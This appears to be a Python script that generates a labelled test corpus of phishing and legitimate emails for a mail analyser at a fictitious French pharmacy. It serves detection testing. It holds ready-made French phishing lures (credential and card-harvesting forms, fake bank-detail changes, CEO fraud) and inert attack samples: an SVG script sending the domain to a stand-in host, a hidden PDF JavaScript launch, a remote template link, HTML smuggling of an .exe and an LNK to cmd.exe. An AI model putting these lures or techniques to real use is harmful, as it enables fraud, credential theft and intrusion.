"""The messages of the labelled corpus that the project writes (tests/fixtures/mail/corpus/ecrit).

People, pharmacies and most domains are fictitious. Attachments are built here, byte by byte,
from the published formats (PE "MZ" header, ISO 9660 "CD001", Windows shell link header, ZIP
with ZipCrypto, PDF names, RTF \\objdata, Office Open XML parts): none of them contains any
code that runs. Run `python tests/mail_corpus.py` to write the .eml files again; the labels
live in labels.yaml and were written before the analyser ran on any message."""

from __future__ import annotations

import binascii
import io
import random
import struct
import sys
import zipfile
import zlib
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

OUT = Path(__file__).resolve().parent / "fixtures/mail/corpus/ecrit"
SERVER = "mx.pharmacie-des-tilleuls.fr"
TO = "Pharmacie des Tilleuls <contact@pharmacie-des-tilleuls.fr>"
DATE = datetime(2026, 11, 24, 9, 12, tzinfo=UTC)


# -- attachments -----------------------------------------------------------------------------


def pe_stub() -> bytes:
    """The header of a Windows program ("MZ", DOS stub text, "PE" signature), nothing runnable."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 60)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    body = dos + b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    return bytes(body) + b"PE\x00\x00" + b"\x00" * 200


def lnk_stub(target: str) -> bytes:
    header = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 56
    return header + target.encode("utf-16-le")


def iso_stub(inner_name: str) -> bytes:
    return b"\x00" * 0x8001 + b"CD001\x01" + b"\x00" * 2042 + inner_name.encode() + b"\x00" * 1024


def zip_of(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(
                zipfile.ZipInfo(name, date_time=(2026, 11, 24, 9, 0, 0)), data, compress_type=zipfile.ZIP_DEFLATED
            )
    return buf.getvalue()


def _zipcrypto(data: bytes, password: bytes, crc: int) -> bytes:
    """Traditional PKWARE encryption (APPNOTE 6.1), what "protect with a password" makes."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc32(c: int, b: int) -> int:
        return binascii.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def update(b: int) -> None:
        keys[0] = crc32(keys[0], b)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc32(keys[2], (keys[1] >> 24) & 0xFF)

    for b in password:
        update(b)
    rng = random.Random(7)
    header = bytes(rng.randrange(256) for _ in range(11)) + bytes([(crc >> 24) & 0xFF])
    out = bytearray()
    for b in header + data:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(b ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(b)
    return bytes(out)


def encrypted_zip(files: dict[str, bytes], password: bytes) -> bytes:
    """A ZIP whose members are stored and encrypted with ZipCrypto (names stay readable)."""
    out = bytearray()
    central = bytearray()
    for name, data in files.items():
        crc = binascii.crc32(data)
        enc = _zipcrypto(data, password, crc)
        offset = len(out)
        raw = name.encode()
        out += (
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 0, 0, 0, crc, len(enc), len(data), len(raw), 0) + raw + enc
        )
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                1,
                0,
                0,
                0,
                crc,
                len(enc),
                len(data),
                len(raw),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw
        )
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(files), len(files), len(central), start, 0)
    return bytes(out)


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def docm_with_macros() -> bytes:
    """A Word document whose package holds a VBA project part (what "Activer les macros" runs)."""
    return zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "word/document.xml": b"<w:document><w:body><w:p><w:r><w:t>Facture</w:t></w:r></w:p></w:body></w:document>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
            "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
        }
    )


def xlsx(external_template: str | None = None) -> bytes:
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    rels += b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    rels += b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.org/" TargetMode="External"/>'
    if external_template:
        rels += (
            b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="'
            + external_template.encode()
            + b'" TargetMode="External"/>'
        )
    rels += b"</Relationships>"
    return zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "xl/workbook.xml": b"<workbook><sheets><sheet name='Planning' sheetId='1' r:id='rId1'/></sheets></workbook>",
            "xl/_rels/workbook.xml.rels": rels,
            "xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>Samedi</t></is></c></row></sheetData></worksheet>",
        }
    )


def pdf(active: bool = False) -> bytes:
    """A one-page PDF; `active` adds an OpenAction running JavaScript, inside a compressed
    object stream as real tools write it (the name is then invisible in the raw bytes)."""
    objects = [
        b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj",
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj",
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj",
    ]
    if active:
        hidden = zlib.compress(
            b'5 0 << /Type /Action /S /J#61vaScript /JS (app.launchURL\\("http://203.0.113.9/x"\\);) >>'
        )
        objects[0] = b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >> endobj"
        objects.append(
            b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(hidden)
            + hidden
            + b"\nendstream endobj"
        )
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def rtf_with_object() -> bytes:
    return b"{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}Purchase order}"


def svg_with_script() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><text x="10" y="20">Facture</text>'
        b'<script>window.location="https://facture-en-ligne.top/?id="+btoa(document.domain)</script></svg>'
    )


def smuggling_html() -> bytes:
    return (
        b"<html><head><title>Message vocal</title></head><body><p>Chargement du message vocal...</p><script>"
        b"var d=atob('TVqQAAMAAAAEAAAA');var b=new Blob([d],{type:'application/octet-stream'});"
        b"var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='Message_vocal.exe';a.click();"
        b"</script></body></html>"
    )


# -- messages --------------------------------------------------------------------------------


def message(
    frm: str,
    subject: str,
    text: str | None = None,
    html: str | None = None,
    *,
    auth: str | None = None,
    reply_to: str | None = None,
    return_path: str | None = None,
    relay: str = "mail.example.net",
    attachments: list[tuple[str, bytes, str]] | None = None,
    forged_auth: str | None = None,
) -> bytes:
    msg = EmailMessage()
    if return_path:
        msg["Return-Path"] = f"<{return_path}>"
    if auth is not None:
        msg["Authentication-Results"] = f"{SERVER}; {auth}"
    msg["Received"] = f"from {relay} ({relay} [198.51.100.23]) by {SERVER} with ESMTPS; {format_datetime(DATE)}"
    msg["From"] = frm
    msg["To"] = TO
    if reply_to:
        msg["Reply-To"] = reply_to
    msg["Subject"] = subject
    msg["Date"] = format_datetime(DATE)
    msg["Message-ID"] = f"<{zlib.crc32(subject.encode())}@{relay}>"
    if forged_auth:
        msg["Authentication-Results"] = f"{SERVER}; {forged_auth}"
    if text is not None:
        msg.set_content(text)
    if html is not None:
        if text is None:
            msg.set_content(html, subtype="html")
        else:
            msg.add_alternative(html, subtype="html")
    for name, data, ctype in attachments or []:
        main, _, sub = ctype.partition("/")
        msg.add_attachment(data, maintype=main, subtype=sub, filename=name)
    if msg.is_multipart():  # a fixed boundary: the same message every time it is written
        msg.set_boundary(f"==officine-{zlib.crc32(subject.encode()):08x}==")
        for part in msg.iter_parts():
            if part.is_multipart():
                part.set_boundary(f"==officine-alt-{zlib.crc32(subject.encode()):08x}==")
    return msg.as_bytes()


def own(domain: str) -> str:
    """Authentication results of a domain the sender really owns (lookalikes pass too)."""
    return f"spf=pass smtp.mailfrom={domain}; dkim=pass header.d={domain}; dmarc=pass header.from={domain}"


MESSAGES = {
    "m01_ameli_remboursement.eml": lambda: message(
        '"Assurance Maladie" <no-reply@ameli-remboursement.fr>',
        "Votre remboursement de 132,48 € est en attente",
        html=(
            "<p>Bonjour,</p><p>Après un dernier calcul de vos droits, un remboursement de 132,48 € vous est dû."
            " Pour le recevoir, confirmez vos coordonnées bancaires dans votre compte ameli.</p>"
            '<p><a href="https://ameli-remboursement.fr/assure/connexion">Accéder à mon compte</a></p>'
            "<p>L'Assurance Maladie</p>"
        ),
        auth=own("ameli-remboursement.fr"),
        relay="mail.ameli-remboursement.fr",
    ),
    "m02_carte_vitale_frais.eml": lambda: message(
        '"ameli.fr" <carte@vitale-renouvellement.com>',
        "Renouvellement de votre carte Vitale",
        text=(
            "Bonjour,\n\nVotre carte Vitale arrive à expiration. Pour recevoir la nouvelle carte, réglez les frais"
            " d'envoi de 1,99 € sous 48 heures :\nhttps://bit.ly/vitale-2026\n\nSans action de votre part, vos"
            " remboursements seront suspendus.\n\nVotre caisse d'Assurance Maladie"
        ),
        auth="spf=none smtp.mailfrom=vitale-renouvellement.com; dkim=none; dmarc=none header.from=vitale-renouvellement.com",
        relay="vps-12.hosting.example",
    ),
    "m03_impots_lien_trompeur.eml": lambda: message(
        '"Finances Publiques" <remboursement@dgfip-info.com>',
        "Avis de remboursement d'impôt",
        html=(
            "<p>Madame, Monsieur,</p><p>Après le calcul de votre impôt, vous avez droit à un remboursement de 381,20 €.</p>"
            '<p>Consultez votre avis sur <a href="https://avis-remboursement.online/dgfip/">https://www.impots.gouv.fr/particulier</a></p>'
            "<p>Direction générale des Finances publiques</p>"
        ),
        auth=own("dgfip-info.com"),
    ),
    "m04_antai_amende.eml": lambda: message(
        '"ANTAI - Service des amendes" <avis@antai-paiement.info>',
        "Avis de contravention non réglé - majoration",
        text=(
            "Vous avez reçu un avis de contravention (n° 2026-44810) non réglé à ce jour.\n"
            "Sans paiement sous 72h, l'amende forfaitaire sera majorée à 135 €.\n\n"
            "Réglez votre amende : https://antai-paiement.info/payer?id=44810\n"
        ),
        auth=own("antai-paiement.info"),
    ),
    "m05_ordre_cotisation.eml": lambda: message(
        '"Ordre National des Pharmaciens" <cotisation@ordre-pharmaciens-cotisation.com>',
        "Cotisation ordinale 2027 - dernier rappel",
        html=(
            "<p>Docteur,</p><p>Sauf erreur de notre part, votre cotisation ordinale 2027 n'a pas été réglée."
            " Dernier rappel : votre inscription au tableau sera suspendue sans paiement immédiat.</p>"
            '<p><a href="https://ordre-pharmaciens-cotisation.com/paiement">Payer ma cotisation par carte</a></p>'
        ),
        auth=own("ordre-pharmaciens-cotisation.com"),
    ),
    "m06_ans_ecps.eml": lambda: message(
        '"Agence du Numérique en Santé" <support@cps-activation.net>',
        "Action requise : votre carte CPS va être désactivée",
        html=(
            "<p>Bonjour,</p><p>Votre carte CPS arrive en fin de validité. Pour activer votre e-CPS et garder l'accès"
            " à vos services, renseignez votre identifiant et votre code PIN sur le portail :</p>"
            '<p><a href="https://cps-activation.net/e-cps">Activer ma e-CPS</a></p>'
        ),
        auth=own("cps-activation.net"),
    ),
    "m07_mssante_boite_pleine.eml": lambda: message(
        '"Messagerie MSSanté" <admin@mssante-messagerie.org>',
        "Votre boîte aux lettres est pleine",
        html=(
            "<p>Votre boîte MSSanté a atteint 98 % de sa capacité. Les nouveaux messages seront rejetés.</p>"
            '<form action="https://mssante-messagerie.org/quota" method="post"><p>Adresse : <input name="u"></p>'
            '<p>Mot de passe : <input type="password" name="p"></p><p><input type="submit" value="Augmenter mon espace"></p></form>'
        ),
        auth=own("mssante-messagerie.org"),
    ),
    "m08_fournisseur_rib.eml": lambda: message(
        '"OCP Repartition - Comptabilite clients" <comptabilite@ocp-repartition-fr.com>',
        "Changement de nos coordonnées bancaires",
        text=(
            "Bonjour,\n\nSuite à un changement de banque, nous vous informons que nos nouvelles coordonnées bancaires"
            " s'appliquent dès aujourd'hui. Merci d'effectuer le virement de la facture de novembre sur le nouveau RIB"
            " ci-dessous et de ne plus utiliser l'ancien.\n\nIBAN : FR76 1234 5678 9012 3456 7890 123\n\n"
            "Service comptabilité clients"
        ),
        auth=own("ocp-repartition-fr.com"),
    ),
    "m09_labo_rib_webmail.eml": lambda: message(
        '"Laboratoires Bellevue - Service client" <labo.bellevue.compta@gmail.com>',
        "Facture en retard - nouveau RIB",
        text=(
            "Bonjour,\n\nNotre facture 2026-1184 reste impayée. Nous avons changé de banque : merci de faire le virement"
            " urgent sur notre nouveau RIB joint à ce message et de nous confirmer le paiement par retour.\n\n"
            "Cordialement,\nLe service client"
        ),
        auth=own("gmail.com"),
        relay="mail-sor-f41.google.com",
    ),
    "m10_lgo_mise_a_jour_zip_exe.eml": lambda: message(
        '"Support Pharmagest" <support@pharmagest-update.com>',
        "Mise à jour de sécurité obligatoire de votre LGO",
        text=(
            "Bonjour,\n\nUne mise à jour de sécurité de votre logiciel doit être installée avant ce soir sur chaque"
            " poste. Ouvrez l'archive jointe et lancez l'installateur.\n\nLe support"
        ),
        auth=own("pharmagest-update.com"),
        attachments=[("MiseAJour_LGO_2026.zip", zip_of({"Installer_MAJ.exe": pe_stub()}), "application/zip")],
    ),
    "m11_facture_docm_macros.eml": lambda: message(
        '"Alliance Healthcare" <factures@alliance-heathcare.fr>',
        "Facture F-2026-11-0482",
        text="Bonjour,\n\nVeuillez trouver ci-joint votre facture. Activez le contenu pour l'afficher.\n\nCordialement",
        auth=own("alliance-heathcare.fr"),
        attachments=[
            ("Facture_F-2026-11-0482.docm", docm_with_macros(), "application/vnd.ms-word.document.macroEnabled.12")
        ],
    ),
    "m12_facture_pdf_exe.eml": lambda: message(
        '"Comptabilite" <compta@fournitures-medicales-pro.fr>',
        "Facture impayée",
        text="Bonjour, la facture ci-jointe reste impayée. Merci de la régler au plus vite.",
        auth=own("fournitures-medicales-pro.fr"),
        attachments=[("Facture_2026-118.pdf.exe", pe_stub(), "application/octet-stream")],
    ),
    "m13_laposte_frais.eml": lambda: message(
        '"La Poste" <suivi@laposte-colis-suivi.com>',
        "Votre colis est en attente de livraison",
        html=(
            "<p>Votre colis n° 6A19874523 n'a pas pu être livré : adresse incomplète.</p>"
            "<p>Des frais de réexpédition de 1,45 € sont à régler avant demain pour une nouvelle livraison.</p>"
            '<p><a href="https://laposte-colis-suivi.com/reexpedition">Programmer une nouvelle livraison</a></p>'
        ),
        auth=own("laposte-colis-suivi.com"),
    ),
    "m14_chronopost_ip.eml": lambda: message(
        '"Chronopost" <info@livraison-express-suivi.net>',
        "Livraison prévue aujourd'hui - action requise",
        html=(
            "<p>Votre colis Chronopost sera livré aujourd'hui. Confirmez votre créneau et réglez les frais de livraison :</p>"
            '<p><a href="http://203.0.113.77/chrono/suivi.php?id=99812">Confirmer la livraison</a></p>'
        ),
        auth="spf=softfail smtp.mailfrom=livraison-express-suivi.net; dkim=none; dmarc=none",
    ),
    "m15_banque_suspension.eml": lambda: message(
        '"Crédit Agricole" <securite@credit-agricole.fr>',
        "Votre accès en ligne sera suspendu",
        html=(
            "<p>Cher client,</p><p>Suite à une connexion inhabituelle, votre accès sera suspendu sous 24h."
            " Vérifiez votre identité pour le conserver :</p>"
            '<p><a href="https://secure-client-verification.top/ca/">www.credit-agricole.fr</a></p>'
        ),
        auth="spf=fail smtp.mailfrom=credit-agricole.fr; dkim=none; dmarc=fail (p=reject) header.from=credit-agricole.fr",
        forged_auth="spf=pass smtp.mailfrom=credit-agricole.fr; dkim=pass; dmarc=pass header.from=credit-agricole.fr",
        relay="static-203-0-113-5.example.net",
    ),
    "m16_microsoft_html_smuggling.eml": lambda: message(
        '"Microsoft 365 - Messagerie vocale" <voicemail@m365-notification.com>',
        "Nouveau message vocal (0:47)",
        text="Vous avez reçu un nouveau message vocal. Ouvrez la pièce jointe pour l'écouter.",
        auth=own("m365-notification.com"),
        attachments=[("Message_vocal_0047.htm", smuggling_html(), "text/html")],
    ),
    "m17_docusign_iso.eml": lambda: message(
        '"DocuSign" <dse@docusing.net>',
        "Documents à signer : contrat de maintenance",
        text="Votre contrat de maintenance est prêt. Ouvrez le fichier joint pour le consulter et le signer.",
        auth=own("docusing.net"),
        attachments=[("Contrat_maintenance_signe.iso", iso_stub("CONTRAT.PDF.EXE"), "application/octet-stream")],
    ),
    "m18_doctolib_zip_lnk.eml": lambda: message(
        '"Doctolib Pro" <equipe@doctolib-pro-services.info>',
        "Planning des vaccinations de décembre",
        text="Bonjour, voici le planning des créneaux de vaccination à valider pour votre officine.",
        auth=own("doctolib-pro-services.info"),
        attachments=[
            (
                "Planning_vaccinations.zip",
                zip_of({"Planning_decembre.pdf.lnk": lnk_stub("C:\\Windows\\System32\\cmd.exe")}),
                "application/zip",
            )
        ],
    ),
    "m19_archive_chiffree_mdp.eml": lambda: message(
        '"Cabinet Martin Expertise" <contact@martin-expertise-comptable.fr>',
        "Documents de clôture",
        text=(
            "Bonjour,\n\nVeuillez trouver les documents de clôture dans l'archive jointe, protégée pour la"
            " confidentialité.\nMot de passe : 2611\n\nBien cordialement"
        ),
        auth=own("martin-expertise-comptable.fr"),
        attachments=[
            (
                "Documents_cloture.zip",
                encrypted_zip({"Bilan_2026.pdf.js": b"WScript.Echo('x');"}, b"2611"),
                "application/zip",
            )
        ],
    ),
    "m20_ansm_rappel_zip.eml": lambda: message(
        '"ANSM - Alertes" <alertes@ansm-securite-medicament.org>',
        "URGENT : rappel de lots",
        html=(
            "<p>Un rappel de lots concerne des médicaments présents dans votre officine. Téléchargez immédiatement la liste :</p>"
            '<p><a href="https://ansm-securite-medicament.org/rappels/liste_lots.zip">Liste des lots rappelés</a></p>'
        ),
        auth=own("ansm-securite-medicament.org"),
    ),
    "m21_urssaf_formulaire.eml": lambda: message(
        '"URSSAF" <recouvrement@urssaf-penalites.com>',
        "Pénalités de retard - régularisation",
        html=(
            "<p>Des pénalités de retard ont été appliquées à votre compte. Régularisez immédiatement pour éviter des poursuites :</p>"
            '<form action="https://urssaf-penalites.com/pay" method="post"><p>Numéro de carte bancaire <input name="c"></p>'
            '<p>Date d\'expiration <input name="e"></p><p>Cryptogramme <input name="v"></p><input type="submit" value="Payer"></form>'
        ),
        auth=own("urssaf-penalites.com"),
    ),
    "m22_vidal_pdf_javascript.eml": lambda: message(
        '"VIDAL Actualités" <actualites@vidal-infos.net>',
        "Nouvelles recommandations - document PDF",
        text="Bonjour, retrouvez les nouvelles recommandations dans le document joint.",
        auth=own("vidal-infos.net"),
        attachments=[("Recommandations_2026.pdf", pdf(active=True), "application/pdf")],
    ),
    "m23_purchase_order_rtf.eml": lambda: message(
        '"Procurement Dept" <procurement@global-trade-sourcing.com>',
        "Purchase Order PO-88213",
        text="Dear Sir/Madam,\n\nPlease find attached our purchase order. Kindly confirm the quotation.\n\nRegards",
        auth=own("global-trade-sourcing.com"),
        attachments=[("PO-88213.doc", rtf_with_object(), "application/msword")],
    ),
    "m24_commande_xlsx_liens_externes.eml": lambda: message(
        '"Parapharm Distribution" <commandes@parapharm-distri.fr>',
        "Bon de commande à valider",
        text="Bonjour, merci de valider le bon de commande joint (activez la modification si demandé).",
        auth=own("parapharm-distri.fr"),
        attachments=[
            (
                "Bon_de_commande.xlsx",
                xlsx(external_template="http://198.51.100.40/tpl/commande.dotm"),
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            )
        ],
    ),
    "m25_fraude_president.eml": lambda: message(
        '"Dr Claire Martin" <dr.claire.martin.pharma@outlook.fr>',
        "Demande confidentielle",
        text=(
            "Bonjour,\n\nJe suis en rendez-vous toute la journée. J'ai besoin que tu effectues un virement urgent"
            " de 8 450 € pour un fournisseur, c'est confidentiel, n'en parle pas à l'équipe. Je t'envoie le RIB.\n\n"
            "Claire"
        ),
        auth=own("outlook.fr"),
        relay="mail-db8eur05.outbound.protection.outlook.com",
    ),
    "m26_sharepoint_partage.eml": lambda: message(
        '"SharePoint Online" <no-reply@sharepoint-filetransfer.net>',
        'Jean shared "Contract 2027.pdf" with you',
        html=(
            "<p>Jean shared a file with you.</p><p>Contract 2027.pdf</p>"
            '<p><a href="https://sharepoint-filetransfer.net/open?doc=contract">Open</a></p>'
            "<p>Please verify your account to access the document.</p>"
        ),
        auth=own("sharepoint-filetransfer.net"),
    ),
    "m27_ameli_punycode.eml": lambda: message(
        '"ameli" <info@xn--meli-43d.fr>',
        "Mise à jour de votre compte ameli",
        html=(
            "<p>Mettez à jour vos informations pour continuer à recevoir vos remboursements.</p>"
            '<p><a href="https://xn--meli-43d.fr/compte">https://аmeli.fr/compte</a></p>'
        ),
        auth=own("xn--meli-43d.fr"),
    ),
    "m28_facture_svg_script.eml": lambda: message(
        '"Service facturation" <facturation@e-factures-express.fr>',
        "Votre facture est disponible",
        text="Bonjour, votre facture est jointe à ce message au format image.",
        auth=own("e-factures-express.fr"),
        attachments=[("Facture_112026.svg", svg_with_script(), "image/svg+xml")],
    ),
    # -- legitimate --------------------------------------------------------------------------
    "l01_ameli_information.eml": lambda: message(
        '"L\'Assurance Maladie" <ne-pas-repondre@info.ameli.fr>',
        "Les nouveautés de votre compte ameli",
        html=(
            "<p>Bonjour,</p><p>Votre compte ameli évolue : vous pouvez désormais suivre vos remboursements et"
            " télécharger vos attestations en quelques clics.</p>"
            '<p><a href="https://www.ameli.fr/assure/adresses-et-contacts">En savoir plus sur ameli.fr</a></p>'
            "<p>Rappel : l'Assurance Maladie ne vous demande jamais vos coordonnées bancaires par courriel.</p>"
        ),
        auth=own("info.ameli.fr").replace("header.from=info.ameli.fr", "header.from=ameli.fr"),
        relay="mailing.info.ameli.fr",
    ),
    "l02_ocp_facture_pdf.eml": lambda: message(
        '"OCP Repartition" <factures@ocp.fr>',
        "Votre relevé de factures - novembre 2026",
        text=(
            "Bonjour,\n\nVotre relevé de factures du mois de novembre est joint à ce message. Il sera prélevé"
            " à l'échéance habituelle.\n\nOCP Répartition - service clients"
        ),
        auth=own("ocp.fr"),
        relay="smtp.ocp.fr",
        attachments=[("Releve_factures_2026-11.pdf", pdf(), "application/pdf")],
    ),
    "l03_collegue_planning_xlsx.eml": lambda: message(
        '"Julie Moreau" <julie.moreau.pharma@gmail.com>',
        "Planning de décembre",
        text="Coucou,\n\nVoici le planning de décembre, dis-moi si le samedi 12 te convient.\n\nJulie",
        auth=own("gmail.com"),
        relay="mail-sor-f69.google.com",
        attachments=[
            ("Planning_decembre.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
        ],
    ),
    "l04_ordre_lettre.eml": lambda: message(
        '"Ordre national des pharmaciens" <communication@ordre.pharmacien.fr>',
        "La lettre de l'Ordre - novembre 2026",
        html=(
            "<p>Au sommaire ce mois-ci : la vaccination à l'officine, le dossier pharmaceutique, les élections ordinales.</p>"
            '<p><a href="https://www.ordre.pharmacien.fr/les-communications">Lire la lettre</a></p>'
            '<p><a href="https://www.ordre.pharmacien.fr/desinscription">Se désinscrire</a></p>'
        ),
        auth=own("ordre.pharmacien.fr"),
    ),
    "l05_labo_confirmation.eml": lambda: message(
        '"Sophie Lambert" <s.lambert@laboratoires-bellevue.fr>',
        "Confirmation de votre commande",
        text=(
            "Bonjour,\n\nJe vous confirme la commande passée lors de ma visite de mardi : 24 boîtes de la gamme"
            " solaire, livraison la semaine prochaine.\n\nBelle journée,\nSophie Lambert\nDéléguée pharmaceutique"
        ),
        auth=own("laboratoires-bellevue.fr"),
    ),
    "l06_banque_releve.eml": lambda: message(
        '"LCL" <noreply@lcl.fr>',
        "Votre relevé de compte est disponible",
        html=(
            "<p>Bonjour,</p><p>Votre relevé de compte professionnel de novembre est disponible dans votre espace client.</p>"
            '<p><a href="https://www.lcl.fr/">Accéder à LCL</a></p><p>LCL ne vous demandera jamais vos codes par courriel.</p>'
        ),
        auth=own("lcl.fr"),
    ),
    "l07_pharmagest_maintenance.eml": lambda: message(
        '"Pharmagest" <info@pharmagest.com>',
        "Maintenance programmée du service de télétransmission",
        text=(
            "Madame, Monsieur,\n\nUne maintenance du service de télétransmission aura lieu dans la nuit du 3 au 4"
            " décembre, de 22 h à 2 h. Aucune action n'est nécessaire de votre part.\n\nL'équipe Pharmagest"
        ),
        auth=own("pharmagest.com").replace("smtp.mailfrom=pharmagest.com", "smtp.mailfrom=bounce.mailjet.example"),
        return_path="bounce-4412@bounce.mailjet.example",
    ),
    "l08_urssaf_echeance.eml": lambda: message(
        '"Urssaf" <ne-pas-repondre@urssaf.fr>',
        "Votre prochaine échéance",
        text=(
            "Bonjour,\n\nVotre prochaine échéance de cotisations est fixée au 5 décembre. Pensez à effectuer votre"
            " déclaration à temps pour éviter une majoration de retard.\n\nVotre Urssaf"
        ),
        auth=own("urssaf.fr"),
    ),
    "l09_patient_question.eml": lambda: message(
        '"Bernard Petit" <bernard.petit31@orange.fr>',
        "Disponibilité d'un médicament",
        text="Bonjour,\n\nAvez-vous du Doliprane 1000 en stock ? Je passerai demain matin.\n\nMerci, B. Petit",
        auth=own("orange.fr"),
        relay="smtp.orange.fr",
    ),
    "l10_comptable_bilan_pdf.eml": lambda: message(
        '"Cabinet Roux & Associés" <a.roux@roux-associes.fr>',
        "Bilan 2026 - projet",
        text=(
            "Bonjour,\n\nVous trouverez en pièce jointe le projet de bilan 2026. Nous pouvons en parler lors de notre"
            " rendez-vous du 10 décembre.\n\nAntoine Roux"
        ),
        auth=own("roux-associes.fr"),
        attachments=[("Projet_bilan_2026.pdf", pdf(), "application/pdf")],
    ),
    "l11_grossiste_lettre.eml": lambda: message(
        '"Alliance Healthcare" <newsletter@alliance-healthcare.fr>',
        "Les offres de décembre",
        html=(
            "<p>Découvrez nos offres de fin d'année sur la parapharmacie.</p>"
            '<p><a href="https://click.alliance-healthcare.fr/c/8812">Voir les offres</a></p>'
            '<p><a href="https://click.alliance-healthcare.fr/u/8812">Se désabonner</a></p>'
        ),
        auth=own("alliance-healthcare.fr"),
    ),
    "l12_mssante_medecin.eml": lambda: message(
        '"Dr Paul Dupont" <paul.dupont@medecin.mssante.fr>',
        "Ordonnance de votre patient M. Leroy",
        text=(
            "Bonjour,\n\nVoici l'ordonnance pour votre patient M. Leroy (renouvellement de son traitement), comme"
            " convenu par téléphone.\n\nDr Dupont"
        ),
        auth=own("medecin.mssante.fr"),
        attachments=[("Ordonnance_Leroy.pdf", pdf(), "application/pdf")],
    ),
    "l13_doctolib_rappel.eml": lambda: message(
        '"Doctolib" <no-reply@doctolib.fr>',
        "Rappel : vaccination antigrippale demain à 10:30",
        html=(
            "<p>Votre rendez-vous de vaccination antigrippale est prévu demain à 10:30 à la Pharmacie des Tilleuls.</p>"
            '<p><a href="https://www.doctolib.fr/account/appointments">Gérer mon rendez-vous</a></p>'
        ),
        auth=own("doctolib.fr"),
    ),
    "l14_formation_dpc.eml": lambda: message(
        '"Formation Officine" <contact@formation-officine-exemple.fr>',
        "Programme DPC 2027",
        html=(
            "<p>Les inscriptions aux formations DPC 2027 sont ouvertes : entretiens pharmaceutiques, vaccination, dépistage.</p>"
            '<p><a href="https://www.formation-officine-exemple.fr/programme-2027">Découvrir le programme</a></p>'
        ),
        auth=own("formation-officine-exemple.fr"),
    ),
    "l15_impots_avis.eml": lambda: message(
        '"impots.gouv.fr" <ne-pas-repondre@dgfip.finances.gouv.fr>',
        "Votre avis de CFE est disponible",
        text=(
            "Madame, Monsieur,\n\nVotre avis de cotisation foncière des entreprises est disponible dans votre espace"
            " professionnel sur https://www.impots.gouv.fr.\n\nLa Direction générale des Finances publiques"
        ),
        auth=own("dgfip.finances.gouv.fr"),
    ),
    "l16_colissimo_suivi.eml": lambda: message(
        '"Colissimo" <noreply@notification.colissimo.fr>',
        "Votre colis est en cours de livraison",
        html=(
            "<p>Votre colis 6A12345678901 sera livré aujourd'hui.</p>"
            '<p><a href="https://www.laposte.fr/outils/suivre-vos-envois?code=6A12345678901">Suivre mon colis</a></p>'
        ),
        auth=own("notification.colissimo.fr"),
    ),
}


def write(out: Path = OUT) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, build in MESSAGES.items():
        path = out / name
        path.write_bytes(build())
        written.append(path)
    return written


if __name__ == "__main__":
    paths = write(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT)
    print(f"{len(paths)} messages written")
